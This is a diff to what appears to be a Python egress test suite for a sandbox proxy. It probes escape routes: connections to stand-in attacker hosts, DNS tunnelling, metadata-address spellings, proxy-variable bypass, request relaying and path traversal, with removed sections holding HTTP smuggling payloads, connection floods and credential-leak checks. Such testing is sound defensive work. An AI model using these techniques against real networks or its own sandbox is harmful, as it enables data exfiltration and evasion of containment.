@@ -13,131 +13,40 @@ import socket
 import ssl
 import struct
 import sys
-import time
 import urllib.error
 import urllib.request
 
-HTTP, SOCKS, CAUGHT = 61128, 61080, 61443
-API, SHARED, WEB = "93.184.216.10", "93.184.216.20", "93.184.216.30"
-EVIL, METADATA, PRIVATE, API6 = "93.184.217.66", "169.254.169.254", "10.20.30.40", "2606:2800:220:1::10"
-WAIT = 10.0
-inside = True
-mark = ""
-
-
-class Stopped(Exception):
-    """It did not come through, and how."""
-
-
-def unverified(alpn=("http/1.1",)):
-    context = ssl._create_unverified_context()
-    context.set_alpn_protocols(list(alpn))
-    return context
-
-
-def request(host, path=None, method="GET", more="", target=None):
-    """A request as bytes; ``target`` for its absolute form."""
-    path = path or "/mark-" + mark
-    return (
-        "{} {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{}\r\n".format(
-            method, (target or "") + path, host, more
-        )
-    ).encode()
-
-
-def all_of(sock, limit=100000):
-    data = b""
-    while len(data) < limit:
-        piece = sock.recv(65536)
-        if not piece:
-            break
-        data += piece
-    return data
-
-
-def status_of(data):
-    """2xx answers pass; others say what they were."""
-    if not data:
-        raise Stopped("closed")
-    words = data.split(b" ", 2)
-    if not data.startswith(b"HTTP/1.") or len(words) < 2:
-        raise Stopped("garbage")
-    if words[1][:1] not in b"23":
-        raise Stopped(words[1].decode("latin-1"))
-    return data
-
-
-def dial(address, port):
-    return socket.create_connection((address, port), WAIT)
-
-
-def ask(sock, data):
-    sock.sendall(data)
-    return status_of(all_of(sock))
-
-
-def connect(host, port, more="", host_header=None):
-    """A tunnel through the proxy; directly, a connection to where the name really is."""
-    if not inside:
-        return dial(REAL.get(host.lower().rstrip("."), host), port)
-    sock = dial("127.0.0.1", HTTP)
-    authority = f"{host}:{port}"
-    sock.sendall((f"CONNECT {authority} HTTP/1.1\r\nHost: {host_header or authority}\r\n{more}\r\n").encode())
-    head = b""
-    while b"\r\n\r\n" not in head:
-        piece = sock.recv(1)
-        if not piece:
-            raise Stopped("closed")
-        head += piece
-    if head.split(b" ")[1] != b"200":
-        raise Stopped(head.split(b" ")[1].decode("latin-1"))
-    return sock
-
-
-REAL = {
-    "api.example.test": API, "web.example.test": WEB, "front.example.test": SHARED,
-    "hidden.example.test": SHARED, "inspected.example.test": SHARED, "evil.attacker.test": EVIL,
-    "metadata.example.test": METADATA,
-    "inner.example.test": PRIVATE, "rebind.example.test": METADATA, "mapped.example.test": PRIVATE,
-    "keyed.example.test": API,
-    "selfsigned.example.test": WEB, "wrongname.example.test": WEB, "expired.example.test": WEB,
-    "2852039166": METADATA, "0251.0376.0251.0376": METADATA, "0xa9fea9fe": METADATA,
-    "[::ffff:169.254.169.254]": METADATA,
-}  # fmt: skip
-
-
-def https(sock, name, host=None, path=None, verify=False):
-    context = ssl.create_default_context() if verify else unverified()
-    with context.wrap_socket(sock, server_hostname=name) as tls:
-        return ask(tls, request(host or name, path))
-
-
-def proxied(url_host, header=None, port=80):
-    """Plain HTTP through the proxy in absolute form; directly, to the host of the URL."""
-    where = url_host.rpartition("@")[2]
-    name, _, digits = where.partition(":") if not where.startswith("[") else (where, "", "")
-    if not inside:
-        sock = dial(REAL.get(name.lower().rstrip("."), name), int(digits or port))
-        return ask(sock, request(header or where))
-    return ask(dial("127.0.0.1", HTTP), request(header or where, target="http://" + url_host))
-
-
-def question(name, kind=1):
-    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
-    return struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
-
-
-def answered(data):
-    code, count = data[3] & 15, struct.unpack(">H", data[6:8])[0]
-    if code or not count:
-        raise Stopped(f"dns-{code}")
-
+import egress_more
+from egress_base import (
+    API,
+    API6,
+    EVIL,
+    HTTP,
+    METADATA,
+    PRIVATE,
+    SOCKS,
+    WAIT,
+    WEB,
+    Stopped,
+    answered,
+    ask,
+    connect,
+    dial,
+    https,
+    now,
+    proxied,
+    question,
+    request,
+    socks,
+    status_of,
+    unverified,
+)
 
 # -- what may pass: without these a door that is shut would look like a good one
 
 
 def allowed_https():
-    https(connect("api.example.test", 443), "api.example.test", verify=inside)
+    https(connect("api.example.test", 443), "api.example.test", verify=now.inside)
 
 
 def allowed_http():
@@ -145,17 +54,17 @@ def allowed_http():
 
 
 def allowed_socks():
-    https(socks("api.example.test", 443), "api.example.test", verify=inside)
+    https(socks("api.example.test", 443), "api.example.test", verify=now.inside)
 
 
 def allowed_caught():
     """A program that knows of no proxy: the name is resolved, the connection goes where it says."""
-    https(dial("api.example.test" if inside else API, 443), "api.example.test", verify=inside)
+    https(dial("api.example.test" if now.inside else API, 443), "api.example.test", verify=now.inside)
 
 
 def allowed_websocket():
-    sock = connect("web.example.test", 80) if not inside else dial("127.0.0.1", HTTP)
-    target = "http://web.example.test" if inside else ""
+    sock = connect("web.example.test", 80) if not now.inside else dial("127.0.0.1", HTTP)
+    target = "http://web.example.test" if now.inside else ""
     key = base64.b64encode(os.urandom(16)).decode()
     more = f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
     head = request("web.example.test", more=more, target=target).replace(
@@ -170,7 +79,7 @@ def allowed_websocket():
         data += piece
     if b" 101 " not in data.split(b"\r\n")[0]:
         raise Stopped(data.split(b" ")[1].decode("latin-1"))
-    text = b"mark-" + mark.encode()
+    text = b"mark-" + now.mark.encode()
     sock.sendall(bytes([0x81, 0x80 | len(text)]) + bytes(4) + text)
     if sock.recv(1000)[2:] != text:
         raise Stopped("no echo")
@@ -178,12 +87,12 @@ def allowed_websocket():
 
 def allowed_spelling():
     """The same host in other spelling is the same host."""
-    https(connect("API.Example.TEST.", 443), "api.example.test", verify=inside)
+    https(connect("API.Example.TEST.", 443), "api.example.test", verify=now.inside)
 
 
 def allowed_tcp():
     sock = connect("api.example.test", 5432)
-    sock.sendall(b"mark-" + mark.encode())
+    sock.sendall(b"mark-" + now.mark.encode())
     if not sock.recv(100).startswith(b"mark-"):
         raise Stopped("no echo")
 
@@ -232,25 +141,25 @@ def direct_private():
 
 def caught_wrong_sni():
     """To the made-up address of an allowed name, with another name in the handshake."""
-    https(dial("api.example.test" if inside else EVIL, 443), "evil.attacker.test")
+    https(dial("api.example.test" if now.inside else EVIL, 443), "evil.attacker.test")
 
 
 def no_proxy():
     os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
-    urllib.request.urlopen("http://evil.attacker.test/mark-" + mark, timeout=WAIT).read()
+    urllib.request.urlopen("http://evil.attacker.test/mark-" + now.mark, timeout=WAIT).read()
 
 
 def unset_variables():
     for name in list(os.environ):
         if name.lower().endswith("_proxy"):
             del os.environ[name]
-    urllib.request.urlopen(f"http://{EVIL}/mark-{mark}", timeout=WAIT).read()
+    urllib.request.urlopen(f"http://{EVIL}/mark-{now.mark}", timeout=WAIT).read()
 
 
 def udp():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(2)
-    sock.sendto(b"mark-" + mark.encode(), (EVIL, 4000))
+    sock.sendto(b"mark-" + now.mark.encode(), (EVIL, 4000))
     if not sock.recv(100).startswith(b"heard:"):
         raise Stopped("no answer")
 
@@ -258,14 +167,14 @@ def udp():
 def quic():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(2)
-    initial = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xd0" + b"mark-" + mark.encode()
+    initial = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xd0" + b"mark-" + now.mark.encode()
     sock.sendto(initial.ljust(1200, b"\0"), (EVIL, 443))
     if not sock.recv(2000).startswith(b"heard:"):
         raise Stopped("no answer")
 
 
 def udp_by_socks():
-    if not inside:
+    if not now.inside:
         return udp()
     sock = dial("127.0.0.1", SOCKS)
     sock.sendall(b"\5\1\0")
@@ -280,7 +189,7 @@ def udp_by_socks():
 def icmp():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
     sock.settimeout(2)
-    sock.sendto(b"\x08\0\0\0\0\0\0\1" + b"mark-" + mark.encode(), (EVIL, 0))
+    sock.sendto(b"\x08\0\0\0\0\0\0\1" + b"mark-" + now.mark.encode(), (EVIL, 0))
     sock.recv(100)
 
 
@@ -318,7 +227,9 @@ def set_route():
 def dns_tunnel_udp():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(WAIT)
-    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test"), ("127.0.0.1" if inside else "9.9.9.9", 53))
+    sock.sendto(
+        question(f"mark-{now.mark}.tunnel.attacker.test"), ("127.0.0.1" if now.inside else "9.9.9.9", 53)
+    )
     answered(sock.recv(2000))
 
 
@@ -326,13 +237,13 @@ def dns_tunnel_server():
     """A resolver of one's own choice."""
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(2)
-    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test"), ("9.9.9.9", 53))
+    sock.sendto(question(f"mark-{now.mark}.tunnel.attacker.test"), ("9.9.9.9", 53))
     answered(sock.recv(2000))
 
 
 def dns_tunnel_tcp():
-    sock = dial("127.0.0.1" if inside else "9.9.9.9", 53)
-    data = question(f"mark-{mark}.tunnel.attacker.test")
+    sock = dial("127.0.0.1" if now.inside else "9.9.9.9", 53)
+    data = question(f"mark-{now.mark}.tunnel.attacker.test")
     sock.sendall(struct.pack(">H", len(data)) + data)
     answer = sock.recv(2000)
     if len(answer) < 10:
@@ -343,14 +254,16 @@ def dns_tunnel_tcp():
 def dns_tunnel_txt():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(WAIT)
-    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test", 16), ("127.0.0.1" if inside else "9.9.9.9", 53))
+    sock.sendto(
+        question(f"mark-{now.mark}.tunnel.attacker.test", 16), ("127.0.0.1" if now.inside else "9.9.9.9", 53)
+    )
     answered(sock.recv(2000))
 
 
 def dns_tunnel_proxy():
     """Names that only the proxy would resolve."""
-    name = f"mark-{mark}.tunnel.attacker.test"
-    if not inside:
+    name = f"mark-{now.mark}.tunnel.attacker.test"
+    if not now.inside:
         socket.getaddrinfo(name, 443)
     connect(name, 443)
 
@@ -405,7 +318,7 @@ def name_to_mapped():
 
 def name_to_loopback():
     """Allowed too, and its address is the host's own loopback."""
-    if not inside:
+    if not now.inside:
         return ask(dial(WEB, 80), request("web.example.test"))  # whoever listens there would answer
     return proxied("loop.example.test")
 
@@ -428,21 +341,6 @@ def socks_evil():
 
 def socks_metadata():
     ask(socks(METADATA, 80), request(METADATA))
-
-
-def socks(host, port):
-    if not inside:
-        return dial(REAL.get(host, host), port)
-    sock = dial("127.0.0.1", SOCKS)
-    sock.sendall(b"\5\1\0")
-    if sock.recv(2) != b"\5\0":
-        raise Stopped("socks")
-    name = host.encode()
-    sock.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", port))
-    answer = sock.recv(10)
-    if len(answer) < 2 or answer[1]:
-        raise Stopped(f"socks-{answer[1] if len(answer) > 1 else 255}")
-    return sock
 
 
 def http_evil():
@@ -483,14 +381,14 @@ def fronting_inspected():
 def relayed_connect():
     """An allowed host that relays for others."""
     sock = connect("web.example.test", 80)
-    sock.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % mark.encode())
+    sock.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % now.mark.encode())
     status_of(sock.recv(1000))
 
 
 def relayed_connect_tls():
     sock = connect("inspected.example.test", 443)
     with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
-        tls.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % mark.encode())
+        tls.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % now.mark.encode())
         status_of(tls.recv(1000))
 
 
@@ -510,7 +408,7 @@ def path_traversal():
     """A rule for /mark-…, and dots in the path that lead elsewhere."""
     sock = connect("inspected.example.test", 443)
     with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
-        ask(tls, request("inspected.example.test", path="/mark-x/%2e%2e/secret/mark-" + mark))
+        ask(tls, request("inspected.example.test", path="/mark-x/%2e%2e/secret/mark-" + now.mark))
 
 
 def redirect_metadata():
@@ -523,7 +421,7 @@ def redirect_evil():
 
 def follow(url, sign):
     context = unverified()
-    proxies = dict.fromkeys(("http", "https"), f"http://127.0.0.1:{HTTP}") if inside else {}
+    proxies = dict.fromkeys(("http", "https"), f"http://127.0.0.1:{HTTP}") if now.inside else {}
     opener = urllib.request.build_opener(
         urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=context)
     )
@@ -543,187 +441,14 @@ def certificate_expired():
     https(connect("expired.example.test", 443), "expired.example.test")
 
 
-# -- smuggling: two readers that see different requests
-
-
-def smuggle(more, body):
-    hidden = f"GET /mark-{mark} HTTP/1.1\r\nHost: web.example.test\r\n\r\n"
-    target = "http://web.example.test" if inside else ""
-    data = f"POST {target}/first HTTP/1.1\r\nHost: web.example.test\r\n{more}\r\n\r\n{body + hidden}"
-    sock = dial("127.0.0.1", HTTP) if inside else dial(WEB, 80)
-    sock.sendall(data.encode("latin-1"))
-    sock.settimeout(3)
-    got = b""
-    try:
-        while got.count(b"HTTP/1.1 ") < 2:
-            piece = sock.recv(65536)
-            if not piece:
-                break
-            got += piece
-    except TimeoutError:
-        pass
-    status_of(got)
-    if got.count(b"HTTP/1.1 2") < 2:
-        raise Stopped("one answer")
-
-
-def smuggling_both_lengths():
-    smuggle("Content-Length: 999\r\nTransfer-Encoding: chunked", "0\r\n\r\n")
-
-
-def smuggling_two_lengths():
-    smuggle("Content-Length: 999\r\nContent-Length: 0", "")
-
-
-def smuggling_odd_coding():
-    smuggle("Content-Length: 999\r\nTransfer-Encoding: xchunked, chunked", "0\r\n\r\n")
-
-
-def smuggling_bare_newline():
-    smuggle("X: y\nContent-Length: 999\r\nContent-Length: 0", "")
-
-
-def smuggling_space():
-    smuggle("Content-Length : 999\r\nContent-Length: 0", "")
-
-
-# -- too much of it: the door still serves afterwards
-
-
-def serves():
-    https(connect("api.example.test", 443), "api.example.test", path="/still-there", verify=inside)
-
-
-def oversized_headers():
-    if inside:
-        sock = dial("127.0.0.1", HTTP)
-        try:
-            sock.sendall(b"GET http://web.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n")
-            for number in range(64):
-                sock.sendall(b"X-%d: " % number + b"a" * 32768 + b"\r\n")
-            status_of(sock.recv(1000))
-        except (OSError, Stopped):
-            pass
-        else:
-            raise Stopped("taken")
-    serves()
-
-
-def slow_requests():
-    held = []
-    for _ in range(60 if inside else 0):
-        sock = dial("127.0.0.1", HTTP)
-        sock.sendall(b"GET http://web.example.test/ HT")
-        held.append(sock)
-    serves()
-
-
-def slow_readers():
-    held = []
-    for _ in range(8 if inside else 0):
-        sock = dial("127.0.0.1", HTTP)
-        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-        sock.sendall(request("web.example.test", "/big", target="http://web.example.test"))
-        held.append(sock)
-    serves()
-
-
-def flood():
-    held = []
-    for _ in range(700 if inside else 0):
-        try:
-            sock = socket.create_connection(("127.0.0.1", HTTP), 2)
-            sock.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
-            held.append(sock)
-        except OSError:
-            break
-    for sock in held:
-        sock.close()
-    end = time.monotonic() + 60
-    while True:
-        try:
-            return serves()
-        except (OSError, Stopped):
-            if time.monotonic() > end:
-                raise
-            time.sleep(0.2)
-
-
-# -- credentials: the sandbox sees a placeholder, which is worth something at one host only
-
-
-def bearer(sock, host, token, tls=True, target=""):
-    data = request(host, more=f"Authorization: {token}\r\n", target=target)
-    if not tls:
-        return ask(sock, data)
-    with unverified().wrap_socket(sock, server_hostname=host) as wrapped:
-        return ask(wrapped, data)
-
-
-def placeholder_bound():
-    bearer(connect("keyed.example.test", 443), "keyed.example.test", "Bearer " + os.environ["PLACEHOLDER"])
-
-
-def placeholder_elsewhere():
-    target = "http://web.example.test" if inside else ""
-    sock = dial("127.0.0.1", HTTP) if inside else dial(WEB, 80)
-    bearer(sock, "web.example.test", "Bearer " + os.environ["PLACEHOLDER"], tls=False, target=target)
-
-
-def placeholder_encoded():
-    word = base64.b64encode(b"user:" + os.environ["PLACEHOLDER"].encode()).decode()
-    bearer(connect("inspected.example.test", 443), "inspected.example.test", "Basic " + word)
-
-
-def placeholder_passed():
-    bearer(connect("api.example.test", 443), "api.example.test", "Bearer " + os.environ["PLACEHOLDER"])
-
-
-# -- other ways
-
-
-def abstract_socket():
-    """A relay of a helper on the host, in the namespace of abstract names."""
-    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    sock.settimeout(WAIT)
-    sock.connect("\0" + os.environ["RELAY"])
-    ask(sock, request("evil.attacker.test"))
-
-
-def neighbour():
-    """A relay in another sandbox, which may do more: same port, same loopback address."""
-    ask(dial("127.0.0.1", 7777), request("evil.attacker.test"))
-
-
-def agent_ports():
-    """The port for caught connections, spoken to without having been caught."""
-    if not inside:
-        return direct_address()
-    return ask(dial("127.0.0.1", CAUGHT), request("evil.attacker.test"))
-
-
-def pass_descriptor():
-    """An inherited or received descriptor of a socket outside would be a way: none is there."""
-    for number in range(3, 256):
-        try:
-            sock = socket.socket(fileno=os.dup(number))
-        except OSError:
-            continue
-        if sock.family in (socket.AF_INET, socket.AF_INET6):
-            raise Stopped("reached")
-    if not inside:
-        return direct_address()
-    raise Stopped("none")
-
-
 def main():
-    global inside, mark
-    inside = sys.argv[1] == "inside"
+    now.inside = sys.argv[1] == "inside"
     for name in sys.argv[2:]:
-        mark = name
+        now.mark = name
         saved = dict(os.environ)
         try:
-            globals()[name.replace("-", "_")]()
+            word = name.replace("-", "_")
+            (globals().get(word) or getattr(egress_more, word))()
             word = "reached"
         except Stopped as error:
             word = str(error)
